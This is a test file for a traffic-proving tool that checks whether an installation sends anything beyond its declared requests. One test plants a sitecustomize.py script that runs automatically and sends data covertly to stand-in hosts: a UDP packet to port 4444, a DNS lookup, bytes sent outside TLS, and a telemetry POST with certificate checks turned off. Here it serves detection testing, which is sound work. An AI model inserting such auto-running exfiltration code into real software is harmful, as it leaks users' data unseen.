"""`diffgram-home prove`: it holds for what is, finds what was planted, and says so where it cannot prove anything."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from diffgram_home.proving import comparing
from diffgram_home.proving.comparing import Connection, Packet, Places, Recorded, Request
from tests.door.places import found
from tests.install.places import ROOT

NO_ROOT = "sha256:" + "0" * 64
PLANT = """
import sys
if "diffgram_home.cli.serve" in sys.orig_argv:
    import socket, ssl, subprocess
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"a packet", ("203.0.113.9", 4444))
    subprocess.run(["getent", "hosts", "carried-out.example"])
    there = ("corporate.test", 8091)
    with socket.create_connection(there) as sock:
        sock.sendall(b"bytes outside TLS")
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(there) as sock, context.wrap_socket(sock) as tls:
        head = "POST /v1/telemetry HTTP/1.1", "Host: x", "X-Serial: 7", "Content-Length: 5", "", "bytes"
        tls.sendall("\\r\\n".join(head).encode())
        tls.recv(100)
"""


def run(folder: Path, *before: str, **environ: str) -> subprocess.CompletedProcess[str]:
    """`diffgram-home prove --json` for an installation in the folder."""
    place = found(folder, "https://corporate.test:8091", NO_ROOT)
    place.home.close()
    kept = place.config.read_text(), sorted(path.name for path in place.config.parent.rglob("*"))
    command = [*before, sys.executable, "-m", "diffgram_home.cli", "--config", str(place.config), "prove", "--json"]
    done = subprocess.run(
        command, cwd=ROOT, env={**os.environ, **environ}, capture_output=True, text=True, check=False, timeout=500
    )
    after = place.config.read_text(), sorted(path.name for path in place.config.parent.rglob("*"))
    assert after == kept, "the live installation is not touched"
    return done


def test_it_holds_for_the_installation_as_it_is(tmp_path: Path) -> None:
    assert os.geteuid() == 0, "a network namespace needs root: run install/test as root"
    done = run(tmp_path / "home")
    assert done.returncode == 0, done.stdout + done.stderr
    said: dict[str, Any] = json.loads(done.stdout)
    assert said["holds"]
    assert said["found"]["findings"] == []
    assert said["off_packets"] == 0
    assert said["not_used"] == {}
    batches = said["found"]["requests"]["POST /v1/batches"]
    assert said["found"]["same_batches"] == batches > 2, "the control: it was used"
    assert said["found"]["packets"] > 200, "the control: it was recorded"
    assert said["not_proved"]


def test_planted_ways_out_before_the_tripwire_are_all_found(tmp_path: Path) -> None:
    (tmp_path / "plant").mkdir()
    (tmp_path / "plant/sitecustomize.py").write_text(PLANT)
    done = run(tmp_path / "home", PYTHONPATH=f"{tmp_path / 'plant'}:{ROOT}")
    assert done.returncode == 1, done.stdout + done.stderr
    findings = json.loads(done.stdout)["found"]["findings"]
    for part in (
        "udp 203.0.113.9 > 203.0.113.9 port 4444",
        "'carried-out.example'",
        "17 bytes were sent to corporate's address outside TLS",
        "POST /v1/telemetry",
        "'x-serial'",
    ):
        assert any(part in finding for finding in findings), (part, findings)


def test_where_the_kernel_allows_no_namespace_it_says_so_and_how_to_allow_it(tmp_path: Path) -> None:
    done = run(tmp_path / "home", "setpriv", "--bounding-set=-sys_admin")
    assert done.returncode == 8, done.stdout + done.stderr
    assert "nothing was proved" in done.stderr
    assert "max_net_namespaces" in done.stderr


PLACES = Places(("127.0.0.1", 8080), ("192.0.2.1", 8091), ("192.0.2.53", 53), "corporate.test")
BATCH = Request("POST /v1/batches", {"host": "corporate.test:8091"}, b'{"a":1}\n', 40)
WIRE = b"\x17\x03\x03 sealed"


def spoken(**changed: Any) -> list[str]:
    """The findings of a small run that fits, but for what is changed."""
    packets = [
        Packet("tcp", "192.0.2.1", 40000, "192.0.2.1", 8091, 60, 99, opens=True),
        Packet("tcp", "192.0.2.1", 40000, "192.0.2.1", 8091, 60, 100, payload=WIRE[:4]),
        Packet("tcp", "192.0.2.1", 40000, "192.0.2.1", 8091, 60, 100, payload=WIRE[:4]),  # sent again
        Packet("tcp", "192.0.2.1", 40000, "192.0.2.1", 8091, 60, 104, payload=WIRE[4:]),
        Packet("tcp", "127.0.0.1", 40001, "127.0.0.1", 8080, 60),
        Packet("udp", "192.0.2.53", 40002, "192.0.2.53", 53, 60),
    ]
    connection = Connection(40000, bytearray(WIRE), 40, True, True, [changed.get("request", BATCH)])
    connection = dataclasses.replace(connection, **changed.get("connection", {}))
    recorded = Recorded(changed.get("recorded", [(BATCH.line, BATCH.body)]))
    asked = changed.get("asked", ["corporate.test"])
    lost = changed.get("lost", 0)
    more = [*packets, *changed.get("packets", [])]
    return list(comparing.compare(more, [connection], asked, recorded, PLACES, lost=lost).findings)


def test_a_run_that_fits_has_no_finding() -> None:
    assert spoken() == []


@pytest.mark.parametrize(
    ("changed", "says"),
    [
        ({"request": dataclasses.replace(BATCH, body=b'{"a":2}\n')}, "they are not the 8 in the ledger"),
        ({"recorded": []}, "the ledger has nothing of it"),
        ({"recorded": [(BATCH.line, BATCH.body)] * 2}, "nothing of it was on the wire"),
        ({"recorded": [("GET /v1/manifest", b"")]}, "where the ledger has GET /v1/manifest"),
        ({"request": dataclasses.replace(BATCH, headers={"x-serial": "7"})}, "'x-serial'"),
        ({"connection": {"received": bytearray(WIRE[:-1])}}, "10 bytes on the wire, 9 at the other end"),
        ({"connection": {"plain_bytes": 41}}, "1 bytes inside TLS"),
        ({"connection": {"secure": False}}, "outside TLS"),
        ({"asked": ["corporate.test", "secret.example"]}, "'secret.example'"),
        ({"packets": [Packet("udp", "8.8.8.8", 1, "8.8.8.8", 53, 60)]}, "1 packets that nothing declares: udp"),
        ({"packets": [Packet("protocol 1", "8.8.8.8", 0, "8.8.8.8", 0, 60)]}, "protocol 1"),
        ({"packets": [Packet("tcp", "192.0.2.1", 5, "192.0.2.1", 80, 60)]}, "port 80"),
        ({"lost": 3}, "3 packets were not recorded"),
    ],
)
def test_whatever_does_not_fit_is_a_finding(changed: dict[str, Any], says: str) -> None:
    findings = spoken(**changed)
    assert any(says in finding for finding in findings), findings


def test_an_enrolment_carries_its_three_members_and_nothing_else() -> None:
    lean = Request(comparing.ENROLMENT, {}, b'{"token":"t","installation":"i","csr":"c"}', 40)
    assert spoken(request=lean, recorded=[(comparing.ENROLMENT, None)]) == []
    fat = dataclasses.replace(lean, body=b'{"token":"t","installation":"i","csr":"c","serial":"7"}')
    assert any("'serial'" in finding for finding in spoken(request=fat, recorded=[(comparing.ENROLMENT, None)]))


def test_off_means_no_packet_but_the_pages() -> None:
    own = [Packet("tcp", "127.0.0.1", 1, "127.0.0.1", 8080, 60), Packet("tcp", "127.0.0.1", 8080, "127.0.0.1", 1, 60)]
    assert comparing.beyond_the_pages(own, PLACES) == 0
    assert comparing.beyond_the_pages([*own, Packet("udp", "192.0.2.53", 1, "192.0.2.53", 53, 60)], PLACES) == 1
